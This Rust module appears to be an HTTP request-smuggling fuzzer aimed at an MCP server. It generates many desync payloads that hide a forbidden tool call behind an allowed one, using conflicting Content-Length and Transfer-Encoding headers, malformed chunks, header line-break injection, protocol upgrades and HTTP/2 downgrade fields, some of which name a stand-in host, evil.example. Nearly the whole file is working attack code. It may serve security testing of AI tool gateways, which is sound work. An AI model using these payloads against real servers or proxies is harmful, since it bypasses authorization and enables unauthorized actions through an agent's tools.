//! Requests whose end two parsers could see in two places. Each carries a
//! second one, for a tool that nobody may call, where only one of them sees it.

use crate::wire::{self, h2};

/// What a mutation is made of.
pub struct Parts<'a> {
    /// Without it, a request is refused before its body is of interest.
    pub bearer: &'a str,
    /// The allowed call that is seen.
    pub outer: &'a str,
    /// The forbidden call that is hidden.
    pub inner: &'a str,
}

const PSEUDO: [(&str, &str); 4] = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/mcp"),
    (":authority", "orders.shop.svc"),
];

/// The name of a mutation, and its bytes.
pub type Mutation = (String, Vec<u8>);

fn body(tool: &str) -> String {
    format!(
        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"{tool}","arguments":{{}}}}}}"#
    )
}

/// Sizes that are no plain hexadecimal number, or stand alone.
fn chunk_sizes(outer: &str, hidden: &str) -> Vec<(&'static str, String)> {
    let n = outer.len();
    vec![
        (
            "size with 0x",
            format!("0x{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size with +",
            format!("+{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size with -",
            format!("-{n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size with zeros",
            format!("{n:016x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size with many zeros",
            format!("{n:0300x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size in capitals",
            format!("{n:X}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size and a space",
            format!("{n:x} \r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "a space and the size",
            format!(" {n:x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size and a tab",
            format!("{n:x}\t\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size of 2^64 more",
            format!("1{n:016x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "size of 2^32 more",
            format!("1{n:08x}\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        ("no size", format!("\r\n{outer}\r\n0\r\n\r\n{hidden}")),
        (
            "size and a bare LF",
            format!("{n:x}\n{outer}\n0\n\n{hidden}"),
        ),
        (
            "size and a bare CR",
            format!("{n:x}\r{outer}\r0\r\r{hidden}"),
        ),
        (
            "a byte a chunk",
            outer
                .bytes()
                .map(|byte| format!("1\r\n{}\r\n", char::from(byte)))
                .collect::<String>()
                + "0\r\n\r\n"
                + hidden,
        ),
    ]
}

/// Extensions, by which the line of a size may end elsewhere.
fn chunk_extensions(outer: &str, hidden: &str) -> Vec<(&'static str, String)> {
    let n = outer.len();
    vec![
        (
            "extension",
            format!("{n:x};a=b\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "extension with a bare LF",
            format!("{n:x};a\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "extension with a bare CR",
            format!("{n:x};a\rb\r\n{outer}\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "extension in quotes with a line break",
            format!("{n:x};a=\"\r\n{outer}\r\n0\r\n\r\n{hidden}\""),
        ),
        (
            "long extension",
            format!(
                "{n:x};{}\r\n{outer}\r\n0\r\n\r\n{hidden}",
                "a".repeat(20_000)
            ),
        ),
        (
            "extension at the end",
            format!("{n:x}\r\n{outer}\r\n0;a=b\r\n\r\n{hidden}"),
        ),
    ]
}

/// Ends of chunks and of the whole, and trailers.
fn chunk_ends(outer: &str, hidden: &str) -> Vec<(&'static str, String)> {
    let n = outer.len();
    vec![
        (
            "no line break after the chunk",
            format!("{n:x}\r\n{outer}0\r\n\r\n{hidden}"),
        ),
        (
            "more than a line break after the chunk",
            format!("{n:x}\r\n{outer}xx\r\n0\r\n\r\n{hidden}"),
        ),
        (
            "LF after the chunk",
            format!("{n:x}\r\n{outer}\n0\r\n\r\n{hidden}"),
        ),
        (
            "chunk longer than said",
            format!("{n:x}\r\n{outer}{hidden}\r\n0\r\n\r\n"),
        ),
        (
            "several zeros at the end",
            format!("{n:x}\r\n{outer}\r\n000\r\n\r\n{hidden}"),
        ),
        (
            "end without its empty line",
            format!("{n:x}\r\n{outer}\r\n0\r\n{hidden}"),
        ),
        ("end with LF", format!("{n:x}\r\n{outer}\r\n0\n\n{hidden}")),
        (
            "trailers",
            format!("{n:x}\r\n{outer}\r\n0\r\nX: y\r\n\r\n{hidden}"),
        ),
        (
            "Content-Length as a trailer",
            format!(
                "{n:x}\r\n{outer}\r\n0\r\nContent-Length: {}\r\n\r\n{hidden}",
                hidden.len()
            ),
        ),
        (
            "Transfer-Encoding as a trailer",
            format!("{n:x}\r\n{outer}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n{hidden}"),
        ),
        (
            "Authorization as a trailer",
            format!("{n:x}\r\n{outer}\r\n0\r\nAuthorization: x\r\n\r\n{hidden}"),
        ),
        (
            "trailer without a colon",
            format!(
                "{n:x}\r\n{outer}\r\n0\r\n{}\r\n\r\n",
                hidden.lines().next().unwrap_or_default()
            ),
        ),
    ]
}

impl Parts<'_> {
    /// A request with these further headers.
    fn request(&self, line: &str, headers: &[(&str, &str)], body: impl AsRef<[u8]>) -> Vec<u8> {
        let mut all = vec![
            ("Host", "orders.shop.svc"),
            ("User-Agent", "smuggler"),
            ("Content-Type", "application/json"),
            ("Accept", "application/json, text/event-stream"),
            ("Authorization", self.bearer),
        ];
        all.extend(headers);
        wire::request(line, &all, body.as_ref())
    }

    fn post(&self, headers: &[(&str, &str)], body: impl AsRef<[u8]>) -> Vec<u8> {
        self.request("POST /mcp HTTP/1.1", headers, body)
    }

    /// The request that is hidden.
    fn hidden(&self) -> String {
        let body = body(self.inner);
        let request = self.post(&[("Content-Length", &body.len().to_string())], body);
        String::from_utf8_lossy(&request).into_owned()
    }

    /// All mutations.
    pub fn all(&self) -> Vec<Mutation> {
        [
            self.both_lengths(),
            self.encodings(),
            self.lengths(),
            self.chunks(),
            self.versions_and_methods(),
            self.upgrades(),
            self.heads(),
        ]
        .concat()
    }

    /// Content-Length beside Transfer-Encoding, in both orders and both senses.
    fn both_lengths(&self) -> Vec<Mutation> {
        let (outer, hidden) = (body(self.outer), self.hidden());
        let chunked = |tail: &str| format!("{:x}\r\n{outer}\r\n0\r\n\r\n{tail}", outer.len());
        let as_chunk = format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len());
        let (ends, all) = (chunked(""), chunked(&hidden));
        let (short, long) = (outer.len().to_string(), all.len().to_string());
        let te = ("Transfer-Encoding", "chunked");
        vec![
            (
                "CL.TE".into(),
                self.post(&[("Content-Length", &long), te], &all),
            ),
            (
                "TE.CL".into(),
                self.post(&[te, ("Content-Length", &long)], &all),
            ),
            (
                "CL.TE, empty".into(),
                self.post(
                    &[("Content-Length", &(5 + hidden.len()).to_string()), te],
                    format!("0\r\n\r\n{hidden}"),
                ),
            ),
            (
                "TE.CL, as a chunk".into(),
                self.post(&[te, ("Content-Length", "4")], &as_chunk),
            ),
            (
                "CL.TE, as a chunk".into(),
                self.post(&[("Content-Length", "4"), te], &as_chunk),
            ),
            (
                "CL.TE that agree".into(),
                self.post(&[("Content-Length", &ends.len().to_string()), te], &ends),
            ),
            (
                "CL 0 and TE".into(),
                self.post(&[("Content-Length", "0"), te], &ends),
            ),
            (
                "CL of the plain body, and TE".into(),
                self.post(
                    &[("Content-Length", &short), te],
                    format!("{outer}{hidden}"),
                ),
            ),
        ]
    }

    /// Encodings that some take for chunked, and some do not.
    fn encodings(&self) -> Vec<Mutation> {
        let (outer, hidden) = (body(self.outer), self.hidden());
        let chunked = format!("{:x}\r\n{outer}\r\n0\r\n\r\n{hidden}", outer.len());
        let lines = [
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding:\tchunked",
            "Transfer-Encoding:  chunked",
            "Transfer-Encoding: chunked ",
            "Transfer-Encoding: Chunked",
            "Transfer-Encoding: \"chunked\"",
            "Transfer-Encoding: chunked,",
            "Transfer-Encoding: ,chunked",
            "Transfer-Encoding: identity, chunked",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: chunked, chunked",
            "Transfer-Encoding: gzip, chunked",
            "Transfer-Encoding: identity",
            "Transfer-Encoding: chunked;x=1",
            "Transfer-Encoding: \u{b}chunked",
            "Transfer-Encoding: chunked\u{b}",
            "Transfer-Encoding: \u{0}chunked",
            "Transfer-Encoding: chun\u{0}ked",
            "Transfer-Encoding: ｃhunked",
            "Transfer-Encoding:\r\n chunked",
            "Transfer-Encoding\r\n : chunked",
            " Transfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding:",
            "Transfer-Encoding: ",
            "Transfer_Encoding: chunked",
            "Transfer-Encodinɡ: chunked",
            "X: y\nTransfer-Encoding: chunked",
            "X: y\rTransfer-Encoding: chunked",
            "X: y\r\n\tTransfer-Encoding: chunked",
            "TE: chunked\r\nTransfer-Encoding: cow",
            "Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
        ];
        let with = |line: &str, length: Option<usize>| {
            let length = length
                .map(|length| format!("Content-Length: {length}\r\n"))
                .unwrap_or_default();
            let plain = String::from_utf8_lossy(&self.post(&[], "")).into_owned();
            let head = plain.trim_end();
            format!("{head}\r\n{length}{line}\r\n\r\n{chunked}").into_bytes()
        };
        lines
            .iter()
            .flat_map(|line| {
                [
                    (format!("{line:?}"), with(line, None)),
                    (format!("CL and {line:?}"), with(line, Some(chunked.len()))),
                ]
            })
            .collect()
    }

    /// Lengths that are read in two ways, or not at all.
    fn lengths(&self) -> Vec<Mutation> {
        let (outer, hidden) = (body(self.outer), self.hidden());
        let (n, all) = (outer.len(), format!("{outer}{hidden}"));
        let values = [
            format!("+{n}"),
            format!("-{n}"),
            format!("{n}, {n}"),
            format!("{n},{}", all.len()),
            format!("{n} {n}"),
            format!("0x{n:x}"),
            format!("0{n}"),
            format!("{n}.0"),
            format!("{n};x"),
            format!("{n}\u{0}"),
            format!("\u{b}{n}"),
            format!("{n}\t"),
            format!("{n}e0"),
            "\u{ff11}\u{ff12}".into(),
            String::new(),
            " ".into(),
            format!("{}", (1_u128 << 64) + n as u128),
            format!("{}", (1_u128 << 63) + n as u128),
            format!("{}", (1_u128 << 32) + n as u128),
            "18446744073709551615".into(),
            format!("{n}\r\n "),
            format!("\r\n {n}"),
        ];
        let one = values.iter().map(|value| {
            (
                format!("CL {value:?}"),
                self.post(&[("Content-Length", value)], &all),
            )
        });
        let (short, long) = (n.to_string(), all.len().to_string());
        let two = [
            (&short, &short),
            (&short, &long),
            (&long, &short),
            (&long, &long),
        ]
        .map(|(one, other)| {
            let headers = [
                ("Content-Length", one.as_str()),
                ("Content-Length", other.as_str()),
            ];
            (
                format!("CL {one} and CL {other}"),
                self.post(&headers, &all),
            )
        });
        let nominated = [
            ("Connection", "content-length"),
            ("Content-Length", short.as_str()),
        ];
        let others = [
            ("no length".to_owned(), self.post(&[], &all)),
            (
                "CL and what follows".into(),
                self.post(&[("Content-Length", &short)], &all),
            ),
            (
                "CL longer than the body".into(),
                self.post(&[("Content-Length", &(n + 400).to_string())], &outer),
            ),
            ("CL, nominated".into(), self.post(&nominated, &all)),
            (
                "Content_Length".into(),
                self.post(&[("Content_Length", &short)], &all),
            ),
            (
                "Content-Length with a space".into(),
                self.post(&[("Content-Length ", &short)], &all),
            ),
        ];
        one.chain(two).chain(others).collect()
    }

    /// Chunks whose size or end is read in two ways.
    fn chunks(&self) -> Vec<Mutation> {
        let (outer, hidden) = (body(self.outer), self.hidden());
        let te = [("Transfer-Encoding", "chunked")];
        [
            chunk_sizes(&outer, &hidden),
            chunk_extensions(&outer, &hidden),
            chunk_ends(&outer, &hidden),
        ]
        .into_iter()
        .flatten()
        .map(|(name, body)| (format!("chunked: {name}"), self.post(&te, body)))
        .collect()
    }

    /// Versions and methods with a body where some expect none.
    fn versions_and_methods(&self) -> Vec<Mutation> {
        let (outer, hidden) = (body(self.outer), self.hidden());
        let (n, whole) = (outer.len().to_string(), hidden.len().to_string());
        let chunked = format!("{:x}\r\n{outer}\r\n0\r\n\r\n{hidden}", outer.len());
        let hidden_chunk = format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len());
        let (te, all) = (("Transfer-Encoding", "chunked"), format!("{outer}{hidden}"));
        let mut mutations = Vec::new();
        for version in [
            "HTTP/1.0",
            "HTTP/0.9",
            "HTTP/1.2",
            "HTTP/2.0",
            "HTTP/1.10",
            "HTTP/1",
            "http/1.1",
            "HTTP/1.1 x",
            "HTTP/ 1.1",
            "",
        ] {
            let line = format!("POST /mcp {version}");
            let keep = ("Connection", "keep-alive");
            mutations.push((
                format!("{version:?} and TE"),
                self.request(&line, &[te, keep], &chunked),
            ));
            mutations.push((
                format!("{version:?} and CL"),
                self.request(&line, &[("Content-Length", &n), keep], &all),
            ));
            mutations.push((
                format!("{version:?}, CL and TE"),
                self.request(&line, &[("Content-Length", &n), te, keep], &chunked),
            ));
        }
        for method in [
            "GET", "DELETE", "HEAD", "OPTIONS", "TRACE", "PUT", "PATCH", "CONNECT", "PRI", "get",
            "G\u{0}ET", "POST\tx",
        ] {
            let line = format!("{method} /mcp HTTP/1.1");
            mutations.push((
                format!("{method:?} with a body"),
                self.request(&line, &[("Content-Length", &whole)], &hidden),
            ));
            mutations.push((
                format!("{method:?} with chunks"),
                self.request(&line, &[te], &hidden_chunk),
            ));
            mutations.push((
                format!("{method:?} with what follows"),
                self.request(&line, &[], &hidden),
            ));
        }
        mutations
    }

    /// Another protocol that is asked for, and spoken before it is agreed on.
    fn upgrades(&self) -> Vec<Mutation> {
        let (outer, hidden) = (body(self.outer), self.hidden());
        let n = outer.len().to_string();
        let mut mutations = Vec::new();
        for protocol in ["h2c", "websocket", "TLS/1.0", "HTTP/2.0", "x"] {
            let asks = [
                ("Connection", "Upgrade, HTTP2-Settings"),
                ("Upgrade", protocol),
                ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"),
                ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
                ("Sec-WebSocket-Version", "13"),
            ];
            let with_body = [&asks[..], &[("Content-Length", &n)]].concat();
            mutations.push((
                format!("GET, upgrade to {protocol}"),
                self.request("GET /mcp HTTP/1.1", &asks, &hidden),
            ));
            mutations.push((
                format!("POST, upgrade to {protocol}"),
                self.post(&with_body, format!("{outer}{hidden}")),
            ));
            let spoken = [
                h2::preface(),
                h2::frame(
                    h2::HEADERS,
                    5,
                    1,
                    &h2::fields(&[(":method", "GET"), (":scheme", "http"), (":path", "/mcp")]),
                ),
            ]
            .concat();
            mutations.push((
                format!("GET, upgrade to {protocol}, HTTP/2 at once"),
                self.request("GET /mcp HTTP/1.1", &asks, spoken),
            ));
        }
        mutations.push((
            "CONNECT".into(),
            self.request("CONNECT orders.shop.svc:80 HTTP/1.1", &[], &hidden),
        ));
        for expect in [
            "100-continue",
            "100-Continue",
            "100-continue, x",
            "x",
            "",
            "200-ok",
        ] {
            let headers = [("Expect", expect), ("Content-Length", n.as_str())];
            mutations.push((
                format!("Expect {expect:?}"),
                self.post(&headers, format!("{outer}{hidden}")),
            ));
            mutations.push((
                format!("GET, Expect {expect:?}"),
                self.request("GET /mcp HTTP/1.1", &[("Expect", expect)], &hidden),
            ));
        }
        mutations
    }

    /// Heads with line breaks, spaces and names that are read in two ways.
    fn heads(&self) -> Vec<Mutation> {
        let (outer, hidden) = (body(self.outer), self.hidden());
        let n = outer.len();
        let good = String::from_utf8_lossy(&self.post(&[("Content-Length", &n.to_string())], ""))
            .into_owned();
        let all = format!("{good}{outer}{hidden}");
        let first = "POST /mcp HTTP/1.1\r\n";
        let with_line = |line: &str| all.replacen(first, &format!("{first}{line}\r\n"), 1);
        let with_first = |line: &str| all.replacen(first, line, 1);
        let heads = [
            (
                "bare LF everywhere",
                format!("{}{outer}{hidden}", good.replace("\r\n", "\n")),
            ),
            (
                "bare CR everywhere",
                format!("{}{outer}{hidden}", good.replace("\r\n", "\r")),
            ),
            (
                "LF, then CR LF",
                format!("{}{outer}{hidden}", good.replacen("\r\n", "\n", 3)),
            ),
            (
                "a request in a header, after CR",
                with_line(&format!("X: y\r{}", hidden.replace("\r\n", "\r"))),
            ),
            (
                "a request in a header, after LF",
                with_line(&format!("X: y\n\n{}", hidden.replace("\r\n", "\n"))),
            ),
            ("folded header", with_line("X: y\r\n Content-Length: 0")),
            (
                "folded first header",
                with_first("POST /mcp HTTP/1.1\r\n Content-Length: 0\r\n"),
            ),
            ("line without a colon", with_line("Content-Length")),
            ("empty name", with_line(": 0")),
            ("name with a space", with_line("Content Length: 0")),
            ("name with a NUL", with_line("Content-Length\u{0}: 0")),
            ("name of a pseudo-header", with_line(":authority: x")),
            ("value with a NUL", with_line("X: \u{0}")),
            (
                "two spaces in the first line",
                with_first("POST  /mcp HTTP/1.1\r\n"),
            ),
            (
                "tabs in the first line",
                with_first("POST\t/mcp\tHTTP/1.1\r\n"),
            ),
            (
                "space at the end of the first line",
                with_first("POST /mcp HTTP/1.1 \r\n"),
            ),
            (
                "space before the first line",
                with_first(" POST /mcp HTTP/1.1\r\n"),
            ),
            ("empty lines before", format!("\r\n\r\n\n{all}")),
            (
                "another host in the target",
                with_first("POST http://evil.example/mcp HTTP/1.1\r\n"),
            ),
            (
                "our host in the target",
                with_first("POST http://orders.shop.svc/mcp HTTP/1.1\r\n"),
            ),
            ("fragment", with_first("POST /mcp#/x HTTP/1.1\r\n")),
            (
                "line break in the target",
                with_first("POST /mcp\r\nX: HTTP/1.1\r\n"),
            ),
            ("Host twice", with_line("Host: orders.shop.svc")),
            ("Host with a line break", with_line("Host: x\r\n\ty")),
            ("close, and what follows", with_line("Connection: close")),
            (
                "no end of the head",
                good.trim_end().to_owned() + "\r\n" + &hidden,
            ),
            ("101 headers", with_line(&"X: y\r\n".repeat(100))),
            (
                "large head",
                with_line(&format!("X: {}", "y".repeat(70_000))),
            ),
        ];
        heads
            .into_iter()
            .map(|(name, head)| (name.to_owned(), head.into_bytes()))
            .collect()
    }

    /// The same over HTTP/2, where frames say how long a body is: what a header
    /// says beside that, or breaks out of its line with. On stream 1; a good
    /// request follows on stream 3.
    pub fn http2(&self, follow: &str) -> Vec<Mutation> {
        let outer = body(self.outer);
        let good = [
            ("content-type", "application/json"),
            ("accept", "application/json, text/event-stream"),
            ("authorization", self.bearer),
        ];
        let next = [&PSEUDO[..], &[("user-agent", "smuggler")], &good].concat();
        let next = [
            h2::frame(h2::HEADERS, h2::END_HEADERS, 3, &h2::fields(&next)),
            h2::frame(h2::DATA, h2::END_STREAM, 3, body(follow).as_bytes()),
        ]
        .concat();
        let mutation = |odd: OddField| {
            let mut fields = odd.among(&PSEUDO);
            if odd.name != "user-agent" {
                fields.push(("user-agent", "smuggler"));
            }
            fields.extend(good);
            let first = [
                h2::preface(),
                h2::frame(h2::HEADERS, h2::END_HEADERS, 1, &h2::fields(&fields)),
                h2::frame(h2::DATA, h2::END_STREAM, 1, outer.as_bytes()),
            ];
            let shown: String = odd.value.chars().take(20).collect();
            (
                format!("HTTP/2: {:?} {shown:?}", odd.name),
                [first.concat(), next.clone()].concat(),
            )
        };
        self.odd_fields().into_iter().map(mutation).collect()
    }

    fn odd_fields(&self) -> Vec<OddField> {
        let hidden = self.hidden();
        let (n, broken) = (
            body(self.outer).len().to_string(),
            format!("x\r\n\r\n{hidden}"),
        );
        let path = format!("/mcp HTTP/1.1\r\nHost: orders.shop.svc\r\n\r\n{hidden}");
        let get = format!("GET /mcp HTTP/1.1\r\n\r\n{hidden}");
        vec![
            beside("content-length", "0"),
            beside("content-length", "5"),
            beside("content-length", &hidden.len().to_string()),
            beside("content-length", &format!("{n}, {n}")),
            beside("content-length", &format!("+{n}")),
            beside("content-length", "x"),
            beside("transfer-encoding", "chunked"),
            beside("te", "chunked"),
            beside("connection", "close"),
            beside("upgrade", "h2c"),
            beside("keep-alive", "1"),
            beside("proxy-connection", "close"),
            beside("host", "evil.example"),
            beside("host", "orders.shop.svc"),
            beside("mcp-name", &broken),
            beside("user-agent", &broken),
            beside("traceparent", "x\ny"),
            beside("traceparent", "x\ry"),
            beside("traceparent", "x\u{0}y"),
            beside("x\r\ny", "z"),
            beside("x: y\r\nz", "z"),
            beside("X-Upper", "z"),
            beside("x y", "z"),
            beside("", "z"),
            beside(":path", "/other"),
            beside(":method", "GET"),
            beside(":x", "y"),
            beside("expect", "x"),
            beside("expect", "100-continue"),
            instead(":path", &path),
            instead(":path", ""),
            instead(":path", "*"),
            instead(":path", "mcp"),
            instead(":path", "http://evil.example/mcp"),
            instead(":path", "/mcp\t"),
            instead(":path", "/mcp#x"),
            instead(":method", &get),
            instead(":method", "GET"),
            instead(":method", "HEAD"),
            instead(":method", "CONNECT"),
            instead(":method", "post"),
            instead(":method", ""),
            instead(":scheme", &broken),
            instead(":scheme", "file"),
            instead(":authority", "evil.example"),
            instead(":authority", &broken),
            instead(":authority", "x@orders.shop.svc"),
            instead(":authority", ""),
        ]
    }
}

/// A header field of HTTP/2 that should not be.
struct OddField {
    name: &'static str,
    value: String,
    /// In place of the right one, or beside all of them.
    is_instead: bool,
}

fn beside(name: &'static str, value: &str) -> OddField {
    OddField {
        name,
        value: value.to_owned(),
        is_instead: false,
    }
}

fn instead(name: &'static str, value: &str) -> OddField {
    OddField {
        is_instead: true,
        ..beside(name, value)
    }
}

impl OddField {
    fn among<'a>(&'a self, right: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
        let own = (self.name, self.value.as_str());
        let mut fields = right.to_vec();
        if self.is_instead {
            fields.retain(|(name, _)| *name != self.name);
            fields.insert(0, own);
        } else {
            fields.push(own);
        }
        fields
    }
}

/// The request that follows a mutation on its connection.
pub fn follow(bearer: &str, tool: &str) -> Vec<u8> {
    let parts = Parts {
        bearer,
        outer: tool,
        inner: tool,
    };
    let body = body(tool);
    let headers = [
        ("Content-Length", &*body.len().to_string()),
        ("Connection", "close"),
    ];
    parts.post(&headers, body)
}
